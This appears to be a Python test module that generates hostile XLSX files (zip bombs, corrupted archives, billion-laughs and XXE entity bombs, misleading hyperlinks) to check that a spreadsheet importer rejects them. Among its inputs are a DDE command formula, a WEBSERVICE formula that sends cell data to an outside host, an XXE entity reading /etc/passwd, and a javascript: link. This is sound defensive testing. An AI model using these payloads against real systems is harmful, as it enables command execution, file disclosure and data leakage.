"""Hostile XLSX files, made by seed: bombs, damage, formulas, links; see hostile.py."""

import io
import random
import re
import string
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.soak.hostile import (
    ADDRESS,
    HEADINGS,
    NAME,
    SECTOR,
    STARTED,
    UNIT,
    Channel,
    Hostile,
    Refused,
    Row,
    channels,
    right,
    spoilt,
    wrong,
)

SHEET = "xl/worksheets/sheet1.xml"


def book_of(found: list[Channel], change: Callable[[Worksheet], object] | None = None) -> bytes:
    """Return an XLSX file of channels, its sheet changed at the end."""
    book = Workbook()
    sheet = book.active
    if not isinstance(sheet, Worksheet):
        raise TypeError(sheet)
    sheet.append(HEADINGS)
    for channel in found:
        sheet.append([cell or None for cell in channel.cells])
    if change is not None:
        change(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezipped(data: bytes, changed: dict[str, bytes], added: dict[str, bytes]) -> bytes:
    """Return an XLSX file with some of its entries replaced and others added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, changed.get(name, old.read(name)))
        for name, content in added.items():
            new.writestr(name, content)
    return out.getvalue()


def entry(data: bytes, name: str) -> bytes:
    """Return an entry of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def xlsx(kind: str, data: bytes, outcome: Refused | tuple[Row, ...]) -> Hostile:
    """Return an XLSX file."""
    return Hostile(kind=kind, file_name="lista.xlsx", data=data, outcome=outcome)


def links(rng: random.Random) -> Hostile:
    """Addresses that only the links behind the cells tell, and links that say otherwise."""
    found = channels(rng, rng.randint(4, 12))
    rows = right(found)
    lying = rng.randint(2, len(found) + 1)

    def change(sheet: Worksheet) -> None:
        for number, channel in enumerate(found, 2):
            name, cell = (sheet.cell(row=number, column=at + 1) for at in (NAME, ADDRESS))
            if number == lying:
                cell.value, cell.hyperlink = channel.url, "https://x.com/nagon_annan"
                continue
            behind = rng.choice(["formula", "name", "address"])
            cell.value = None if behind == "name" else "Vår sida"
            if behind == "formula":
                cell.value = f'=HYPERLINK("{channel.url}","Vår sida")'
            else:
                (name if behind == "name" else cell).hyperlink = channel.url

    return xlsx("links", book_of(found, change), wrong(rows, lying, "link_differs", ADDRESS))


def formulas(rng: random.Random) -> Hostile:
    """A formula in a cell that is needed: its value is not worked out, and not believed."""
    column = rng.choice([NAME, ADDRESS, SECTOR, UNIT, STARTED])
    place = spoilt(rng, "formulas", column)
    formula = rng.choice(
        ["=1+1", "=cmd|'/c calc'!A0", '=WEBSERVICE("https://example.se/?"&A1)', '="x.com/"&A2',
         '=HYPERLINK("https://x.com/"&A2,"X")', "=TODAY()", "={1,2}", "=[1]Blad1!A1"]
    )  # fmt: skip
    found = place.put(formula)
    return xlsx(place.kind, book_of(found), wrong(right(found), place.row, "cell_formula", column))


def bad_values(rng: random.Random) -> Hostile:
    """Errors of calculation, and days that no calendar has."""
    place = spoilt(rng, "bad_values", STARTED)
    values: list[str | int] = ["#REF!", "#N/A", "#DIV/0!", 99_999_999_999, -99_999_999]
    value = rng.choice(values)

    def change(sheet: Worksheet) -> None:
        cell = sheet.cell(row=place.row, column=STARTED + 1)
        cell.value = value
        cell.number_format = "yyyy-mm-dd"

    data = book_of(place.found, change)
    return xlsx(place.kind, data, wrong(right(place.found), place.row, "cell_error", STARTED))


def types(rng: random.Random) -> Hostile:
    """Numbers, days and truths where names stand: all become text as a person reads it."""
    found = channels(rng, 4)

    def change(sheet: Worksheet) -> None:
        values: list[float | date] = [2284.0, 17, date(2020, 1, 31), True]
        for row, value in enumerate(values, 2):
            sheet.cell(row=row, column=NAME + 1).value = value
            sheet.cell(row=row, column=STARTED + 1).value = date(2020, 2, 29)
        sheet.row_dimensions[3].hidden = True
        hidden = sheet.parent.create_sheet("Dold")  # type: ignore[union-attr]
        hidden.append(HEADINGS)
        hidden.append(["fel", "fel", "javascript:alert(1)"])
        hidden.sheet_state = "veryHidden"

    names = ["2284", "17", "2020-01-31", "TRUE"]
    rows = [replace(row, name=name) for row, name in zip(right(found), names, strict=True)]
    return xlsx("types", book_of(found, change), tuple(rows))


def huge_cell(rng: random.Random) -> Hostile:
    """Ten megabytes in a cell, of letters that do not pack well."""
    place = spoilt(rng, "huge_cell_xlsx", rng.choice([NAME, SECTOR, UNIT]))
    mark = "MARKE"
    data = book_of(place.put(mark))
    letters = rng.randbytes(10_000_000).translate(
        bytes(ord(string.ascii_letters[value % 52]) for value in range(256))
    )
    sheet = entry(data, SHEET).replace(mark.encode(), letters)
    return xlsx(place.kind, rezipped(data, {SHEET: sheet}, {}), place.refused("xlsx_cell_size"))


def far_out(rng: random.Random) -> Hostile:
    """A cell in the last column, or in a row beyond all sheets."""
    found = channels(rng, 3)
    data = book_of(found)
    sheet = entry(data, SHEET).decode()
    if rng.random() < 0.5:
        row = rng.randint(2, 4)
        column = rng.randint(501, 16_384)
        wide = book_of(found, lambda sheet: sheet.cell(row=row, column=column, value="x"))
        return xlsx("far_out", wide, Refused("xlsx_columns", row, column))
    row = rng.choice([100_001, 1_048_577, 999_999_999])
    cell = f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    sheet = sheet.replace("</sheetData>", cell)
    return xlsx("far_out", rezipped(data, {SHEET: sheet.encode()}, {}), Refused("file_rows"))


def zip_bomb(rng: random.Random) -> Hostile:
    """Little that unpacks to much: one entry, very many entries, or blanks without end."""
    data = book_of(channels(rng, 3))
    which = rng.randrange(3)
    if which == 0:
        size = rng.randint(50, 120) * 1_000_000
        bomb = rezipped(data, {}, {rng.choice(["xl/media/a.png", "xl/extra.xml"]): bytes(size)})
    elif which == 1:
        bomb = rezipped(data, {}, {f"xl/media/{number}.txt": b"" for number in range(2_100)})
    else:
        bomb = rezipped(data, {"xl/styles.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}, {})
    return xlsx("zip_bomb", bomb, Refused("file_bomb"))


def lying_sizes(rng: random.Random) -> Hostile:
    """An entry that unpacks to more than it says, or has another checksum."""
    data = bytearray(book_of(channels(rng, 3)))
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + rng.randrange(2))
    offset = at + rng.choice([16, 24])  # checksum, unpacked size (APPNOTE 4.3.12)
    data[offset] ^= 1 + rng.randrange(200)
    return xlsx("lying_sizes", bytes(data), Refused("file_damaged"))


def truncated(rng: random.Random) -> Hostile:
    """A download that stopped."""
    data = book_of(channels(rng, rng.randint(3, 30)))
    return xlsx("truncated", data[: rng.randint(5, len(data) - 23)], Refused("file_damaged"))


def broken_xml(rng: random.Random) -> Hostile:
    """A sheet or workbook whose XML ends in the middle."""
    data = book_of(channels(rng, 3))
    name = rng.choice([SHEET, "xl/workbook.xml", "xl/_rels/workbook.xml.rels"])
    text = entry(data, name)
    cut = text[: rng.randint(len(text) // 3, len(text) - 9)]
    return xlsx("broken_xml", rezipped(data, {name: cut}, {}), Refused("file_damaged"))


def entity_bomb(rng: random.Random) -> Hostile:
    """Entities that expand a billion times, or fetch a file."""
    data = book_of(channels(rng, 3))
    laughs = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
    declaration = rng.choice(
        [
            f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>',
            '<!DOCTYPE a [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE a SYSTEM "https://example.se/x.dtd">',
        ]
    )
    name = rng.choice([SHEET, "xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
    text = re.sub(r"^<\?xml[^>]*\?>", "", entry(data, name).decode())
    bomb = f"<?xml version='1.0'?>{declaration}{text}".replace("Kanal", "&a9;")
    encoding = rng.choice(["utf-8", "utf-16"])
    return xlsx(
        "entity_bomb", rezipped(data, {name: bomb.encode(encoding)}, {}), Refused("file_entities")
    )


def other_office(rng: random.Random) -> Hostile:
    """Files of other programs that are ZIP files too."""
    out = io.BytesIO()
    names, code = rng.choice(
        [
            (["mimetype", "content.xml"], "file_ods"),
            (["[Content_Types].xml", "word/document.xml"], "file_kind"),
            (["[Content_Types].xml", "xl/workbook.bin", "xl/worksheets/sheet1.bin"], "file_kind"),
            (["bild.png"], "file_kind"),
            ([], "file_damaged"),
        ]
    )
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    data = out.getvalue() if names else b"PK\x05\x06" + bytes(3)
    return xlsx("other_office", data, Refused(code))


def many_rows(rng: random.Random) -> Hostile:
    """More rows than any municipality has channels, as XLSX."""
    found = channels(rng, 50_000)
    return xlsx("many_rows_xlsx", book_of(found), right(found))
